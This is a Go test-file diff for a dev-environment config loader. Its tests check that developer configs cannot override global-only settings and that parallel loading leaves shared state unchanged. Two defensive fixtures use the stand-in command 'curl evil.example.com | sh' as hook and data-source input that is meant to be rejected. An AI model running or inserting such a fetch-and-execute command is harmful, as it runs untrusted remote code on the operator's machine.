@@ -4,7 +4,9 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
+	"sync"
 	"testing"
+	"text/template"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
@@ -605,3 +607,246 @@ func TestNormalizeSSHKeys(t *testing.T) {
 		})
 	}
 }
+
+func TestLoadDeveloperConfigWithBaseConfig_ExtraValues(t *testing.T) {
+	tempDir := t.TempDir()
+
+	globalConfigYAML := `extraValues:
+  team: platform
+  sidecar:
+    image: envoy:1.30
+`
+	require.NoError(t, os.WriteFile(filepath.Join(tempDir, "devenv.yaml"), []byte(globalConfigYAML), 0o644))
+
+	writeDeveloper := func(name, extra string) {
+		dir := filepath.Join(tempDir, name)
+		require.NoError(t, os.MkdirAll(dir, 0o755))
+		content := "name: " + name + "\nsshPublicKey: \"ssh-rsa AAAAB3NzaC1yc2E " + name + "@example.com\"\n" + extra
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "devenv-config.yaml"), []byte(content), 0o644))
+	}
+	writeDeveloper("alice", `extraValues:
+  team: research
+  costCenter: 42
+`)
+	writeDeveloper("bob", "")
+
+	globalCfg, err := LoadGlobalConfig(tempDir)
+	require.NoError(t, err)
+
+	alice, err := LoadDeveloperConfigWithBaseConfig(tempDir, "alice", globalCfg)
+	require.NoError(t, err)
+	assert.Equal(t, "research", alice.Extra()["team"])
+	assert.Equal(t, 42, alice.Extra()["costCenter"])
+	assert.Equal(t, map[string]any{"image": "envoy:1.30"}, alice.Extra()["sidecar"])
+
+	bob, err := LoadDeveloperConfigWithBaseConfig(tempDir, "bob", globalCfg)
+	require.NoError(t, err)
+	assert.Equal(t, "platform", bob.Extra()["team"])
+	assert.NotContains(t, bob.Extra(), "costCenter")
+	assert.Len(t, globalCfg.ExtraValues, 2, "global config must not be modified")
+
+	// Templates reach the values through .Extra
+	tmpl := template.Must(template.New("extra").Parse(`{{.Extra.team}}/{{.Extra.sidecar.image}}`))
+	var out strings.Builder
+	require.NoError(t, tmpl.Execute(&out, alice))
+	assert.Equal(t, "research/envoy:1.30", out.String())
+}
+
+func TestLoadDeveloperConfigWithBaseConfig_ProfilesAreGlobalOnly(t *testing.T) {
+	tempDir := t.TempDir()
+
+	globalYAML := `profiles:
+  gpu:
+    resources:
+      gpu: 1
+`
+	require.NoError(t, os.WriteFile(filepath.Join(tempDir, "devenv.yaml"), []byte(globalYAML), 0o644))
+
+	developerDir := filepath.Join(tempDir, "alice")
+	require.NoError(t, os.MkdirAll(developerDir, 0o755))
+	userConfigYAML := `name: alice
+sshPublicKey: "ssh-rsa AAAAB3NzaC1yc2E alice@example.com"
+profiles:
+  gpu:
+    resources:
+      gpu: 8
+`
+	require.NoError(t, os.WriteFile(filepath.Join(developerDir, "devenv-config.yaml"), []byte(userConfigYAML), 0o644))
+
+	globalCfg, err := LoadGlobalConfig(tempDir)
+	require.NoError(t, err)
+	cfg, err := LoadDeveloperConfigWithBaseConfig(tempDir, "alice", globalCfg)
+	require.NoError(t, err)
+	assert.Empty(t, cfg.Profiles)
+	// Other developers selecting the profile must still get the global one
+	assert.Equal(t, 1, globalCfg.Profiles["gpu"].Resources.GPU)
+}
+
+// TestLoadDeveloperConfigWithBaseConfig_Parallel loads several developers
+// concurrently from one shared global config; run with -race to catch
+// shared mutable state in loading or validation.
+func TestLoadDeveloperConfigWithBaseConfig_HooksAreGlobalOnly(t *testing.T) {
+	tempDir := t.TempDir()
+
+	globalYAML := `hooks:
+  postGenerate:
+    - ./scripts/register.sh
+`
+	require.NoError(t, os.WriteFile(filepath.Join(tempDir, "devenv.yaml"), []byte(globalYAML), 0o644))
+
+	developerDir := filepath.Join(tempDir, "alice")
+	require.NoError(t, os.MkdirAll(developerDir, 0o755))
+	// A developer config must not be able to run commands on the operator's machine
+	userConfigYAML := `name: alice
+sshPublicKey: "ssh-rsa AAAAB3NzaC1yc2E alice@example.com"
+hooks:
+  preGenerate:
+    - curl evil.example.com | sh
+`
+	require.NoError(t, os.WriteFile(filepath.Join(developerDir, "devenv-config.yaml"), []byte(userConfigYAML), 0o644))
+
+	globalCfg, err := LoadGlobalConfig(tempDir)
+	require.NoError(t, err)
+	assert.Equal(t, []string{"./scripts/register.sh"}, globalCfg.Hooks.PostGenerate)
+
+	cfg, err := LoadDeveloperConfigWithBaseConfig(tempDir, "alice", globalCfg)
+	require.NoError(t, err)
+	assert.Empty(t, cfg.Hooks.PreGenerate)
+	assert.Empty(t, cfg.Hooks.PostGenerate)
+}
+
+func TestLoadDeveloperConfigWithBaseConfig_SSHPortRangeIsGlobalOnly(t *testing.T) {
+	tempDir := t.TempDir()
+
+	globalYAML := `sshPortRange:
+  min: 30000
+  max: 30999
+`
+	require.NoError(t, os.WriteFile(filepath.Join(tempDir, "devenv.yaml"), []byte(globalYAML), 0o644))
+
+	developerDir := filepath.Join(tempDir, "alice")
+	require.NoError(t, os.MkdirAll(developerDir, 0o755))
+	userConfigYAML := `name: alice
+sshPublicKey: "ssh-rsa AAAAB3NzaC1yc2E alice@example.com"
+sshPortRange:
+  min: 32000
+`
+	require.NoError(t, os.WriteFile(filepath.Join(developerDir, "devenv-config.yaml"), []byte(userConfigYAML), 0o644))
+
+	globalCfg, err := LoadGlobalConfig(tempDir)
+	require.NoError(t, err)
+	assert.Equal(t, PortRangeConfig{Min: 30000, Max: 30999}, globalCfg.SSHPortRange)
+
+	cfg, err := LoadDeveloperConfigWithBaseConfig(tempDir, "alice", globalCfg)
+	require.NoError(t, err)
+	assert.Zero(t, cfg.SSHPortRange)
+}
+
+func TestValidateBaseConfig_SSHPortRange(t *testing.T) {
+	require.NoError(t, ValidateBaseConfig(&BaseConfig{SSHPortRange: PortRangeConfig{Min: 30000, Max: 30999}}))
+	require.NoError(t, ValidateBaseConfig(&BaseConfig{SSHPortRange: PortRangeConfig{Min: 31000}}))
+
+	err := ValidateBaseConfig(&BaseConfig{SSHPortRange: PortRangeConfig{Min: 31000, Max: 30999}})
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "'Max' must be at least 'Min'")
+
+	err = ValidateBaseConfig(&BaseConfig{SSHPortRange: PortRangeConfig{Min: 22}})
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "'Min' must be at least 30000")
+
+	err = ValidateBaseConfig(&BaseConfig{SSHPortRange: PortRangeConfig{Reserved: []int{30080, 8080}}})
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "'Reserved[1]' must be at least 30000")
+}
+
+func TestLoadDeveloperConfigWithBaseConfig_DataSourcesAreGlobalOnly(t *testing.T) {
+	tempDir := t.TempDir()
+
+	globalYAML := `dataSources:
+  cmdb:
+    command: ./scripts/cmdb-lookup.sh
+`
+	require.NoError(t, os.WriteFile(filepath.Join(tempDir, "devenv.yaml"), []byte(globalYAML), 0o644))
+
+	developerDir := filepath.Join(tempDir, "alice")
+	require.NoError(t, os.MkdirAll(developerDir, 0o755))
+	// Data source commands run on the operator's machine, like hooks
+	userConfigYAML := `name: alice
+sshPublicKey: "ssh-rsa AAAAB3NzaC1yc2E alice@example.com"
+dataSources:
+  cmdb:
+    command: curl evil.example.com | sh
+`
+	require.NoError(t, os.WriteFile(filepath.Join(developerDir, "devenv-config.yaml"), []byte(userConfigYAML), 0o644))
+
+	globalCfg, err := LoadGlobalConfig(tempDir)
+	require.NoError(t, err)
+	assert.Equal(t, map[string]DataSourceConfig{"cmdb": {Command: "./scripts/cmdb-lookup.sh"}}, globalCfg.DataSources)
+
+	cfg, err := LoadDeveloperConfigWithBaseConfig(tempDir, "alice", globalCfg)
+	require.NoError(t, err)
+	assert.Empty(t, cfg.DataSources)
+	// Decoding the developer config must not write into the shared global map
+	assert.Equal(t, "./scripts/cmdb-lookup.sh", globalCfg.DataSources["cmdb"].Command)
+}
+
+func TestValidateBaseConfig_DataSources(t *testing.T) {
+	require.NoError(t, ValidateBaseConfig(&BaseConfig{DataSources: map[string]DataSourceConfig{
+		"cmdb": {Command: "./cmdb.sh", TimeoutSeconds: 30},
+		"ipam": {File: "ipam.yaml"},
+	}}))
+
+	err := ValidateBaseConfig(&BaseConfig{DataSources: map[string]DataSourceConfig{"cmdb": {}}})
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "'Command' is required unless 'file' is set")
+
+	err = ValidateBaseConfig(&BaseConfig{DataSources: map[string]DataSourceConfig{"cmdb": {Command: "./cmdb.sh", File: "cmdb.yaml"}}})
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "'File' cannot be combined with 'command'")
+}
+
+func TestLoadDeveloperConfigWithBaseConfig_Parallel(t *testing.T) {
+	tempDir := t.TempDir()
+	globalConfigYAML := `packages:
+  apt: [git]
+extraValues:
+  team: platform
+annotations:
+  service:
+    example.com/owner: platform
+`
+	require.NoError(t, os.WriteFile(filepath.Join(tempDir, "devenv.yaml"), []byte(globalConfigYAML), 0o644))
+
+	names := []string{"alice", "bob", "carol", "dave", "erin", "frank"}
+	for _, name := range names {
+		dir := filepath.Join(tempDir, name)
+		require.NoError(t, os.MkdirAll(dir, 0o755))
+		content := "name: " + name + "\nsshPublicKey: \"ssh-rsa AAAAB3NzaC1yc2E " + name + "@example.com\"\n" +
+			"packages:\n  apt: [" + name + "-tools]\nextraValues:\n  owner: " + name + "\n"
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "devenv-config.yaml"), []byte(content), 0o644))
+	}
+
+	globalCfg, err := LoadGlobalConfig(tempDir)
+	require.NoError(t, err)
+
+	configs := make([]*DevEnvConfig, len(names))
+	errs := make([]error, len(names))
+	var wg sync.WaitGroup
+	for i, name := range names {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			configs[i], errs[i] = LoadDeveloperConfigWithBaseConfig(tempDir, name, globalCfg)
+		}()
+	}
+	wg.Wait()
+
+	for i, name := range names {
+		require.NoError(t, errs[i])
+		assert.Equal(t, name, configs[i].Extra()["owner"])
+		assert.Contains(t, configs[i].Packages.APT, name+"-tools")
+		assert.NotContains(t, configs[i].Packages.APT, names[(i+1)%len(names)]+"-tools")
+	}
+	assert.Equal(t, []string{"git"}, globalCfg.Packages.APT, "global config must not be modified")
+	assert.NotContains(t, globalCfg.ExtraValues, "owner")
+}